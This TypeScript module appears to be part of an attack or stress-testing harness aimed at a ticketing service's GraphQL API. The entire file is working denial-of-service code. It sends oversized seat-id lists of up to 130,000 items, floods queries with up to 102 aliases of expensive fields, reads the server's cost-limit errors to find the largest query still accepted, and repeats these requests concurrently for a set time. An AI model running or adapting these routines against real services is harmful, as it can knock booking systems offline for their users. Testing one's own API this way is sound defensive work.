import type { Target } from './attacker.ts';
import { type Answer, countKinds, post, repeat, signIn } from './http.ts';

/** Sends lists of ids that are much too long, four in one mutation: 910 kB, and as much as a request may have. */
export async function seatIds({ graphqlUrl, eventId, seconds }: Target): Promise<string> {
  const token = (await signIn(graphqlUrl)) ?? '';
  const idsOf = (length: number) => Array.from({ length }, (_, at) => at.toString(36).padStart(4, '0'));
  const fields = ['a', 'b', 'c', 'd'].map((alias) => `${alias}: reserveSeats(input: $input) { __typename }`);
  const query = `mutation ($input: ReserveSeatsInput!) { ${fields.join(' ')} }`;
  const answers: Answer[] = [];
  await repeat({ seconds, atOnce: 1, pauseMs: 1_000 }, async () => {
    for (const length of [130_000, 35_000]) {
      const input = { eventId, seatIds: idsOf(length) };
      answers.push(await post(graphqlUrl, { query, variables: { input } }, token));
    }
  });
  return describe(answers);
}

/** Fields of an event with many rows, and all of their expensive fields. */
const manyRows = [
  'seats(first: 100) { edges { node { id label section row number category { id name } } } }',
  'seatMap { areas { shape color text { text } } }',
  'categories { id name seats: price { amount } }',
  'seatMap { statuses }',
  'availability { available reserved }',
  'seats(first: 100, status: AVAILABLE) { totalCount edges { node { id status reservedByViewer } } }',
  'seatMap { sections { name rows { name seats { id label position { x y } } } } }',
];

/** Documents with more have too many tokens. */
const MOST_ALIASES = 102;

/** Sends the largest accepted number of aliases, for each field and for all of them together. */
export async function aliases({ graphqlUrl, eventId, seconds }: Target): Promise<string> {
  const ofEvent = (fields: string) => `{ event(id: "${eventId}") { ${fields} } }`;
  const kinds = manyRows.map((rows) => (count: number) => ofEvent(aliased(count, () => rows)));
  const ofAll = (count: number) => ofEvent(aliased(count, (alias) => manyRows[alias % manyRows.length] ?? ''));
  const queries = await Promise.all([...kinds, lists, ofAll].map((queryOf) => mostExpensive(graphqlUrl, queryOf)));
  const answers: Answer[] = [];
  await repeat({ seconds, atOnce: 4, pauseMs: 100 }, async () => {
    for (const query of queries) answers.push(await post(graphqlUrl, { query }));
  });
  return describe(answers);
}

const lists = (count: number) =>
  `{ ${aliased(count, () => 'events(first: 100) { edges { node { id name venue startsAt availability { total } } } }')} }`;

function aliased(count: number, fieldOf: (alias: number) => string): string {
  return Array.from({ length: count }, (_, alias) => `a${alias}: ${fieldOf(alias)}`).join(' ');
}

/** Finds the most expensive accepted query, from the cost in the error that refuses a larger one. */
async function mostExpensive(graphqlUrl: string, queryOf: (count: number) => string): Promise<string> {
  let count = MOST_ALIASES;
  for (;;) {
    const query = queryOf(count);
    const { text } = await post(graphqlUrl, { query });
    if (count === 1 || !/QUERY_TOO_LARGE|GRAPHQL_PARSE_FAILED/.test(text)) return query;
    const [, cost, limit] = /"cost":(\d+),"limit":(\d+)/.exec(text) ?? [];
    const fitting = cost === undefined ? 0.9 * count : (count * Number(limit)) / Number(cost);
    count = Math.max(1, Math.min(count - 1, Math.floor(fitting)));
  }
}

/** Counts all seats with one query a second. */
export async function counts({ graphqlUrl, eventId, seconds }: Target): Promise<string> {
  const statuses = ['AVAILABLE', 'RESERVED', 'BOOKED', 'BLOCKED'];
  const fields = Array.from({ length: 100 }, (_, at) => {
    const status = at % 5 === 4 ? '' : `, status: ${statuses[at % 5]}`;
    return `a${at}: seats(first: 0${status}) { totalCount }`;
  });
  const queries = [
    `{ event(id: "${eventId}") { ${fields.join(' ')} } }`,
    `{ event(id: "${eventId}") { seats(first: 0) { totalCount } } }`,
  ];
  const answers: Answer[] = [];
  await repeat({ seconds, atOnce: 1, pauseMs: 1_000 }, async () => {
    for (const query of queries) answers.push(await post(graphqlUrl, { query }));
  });
  return describe(answers);
}

function describe(answers: readonly Answer[]): string {
  const kinds = answers.map(({ status, text }) => `${status} ${/"code":"(\w+)"/.exec(text)?.[1] ?? ''}`.trim());
  const most = Math.max(0, ...answers.map(({ bytes }) => bytes));
  return `answers ${countKinds(kinds)}; the largest ${(most / 1e6).toFixed(2)} MB`;
}
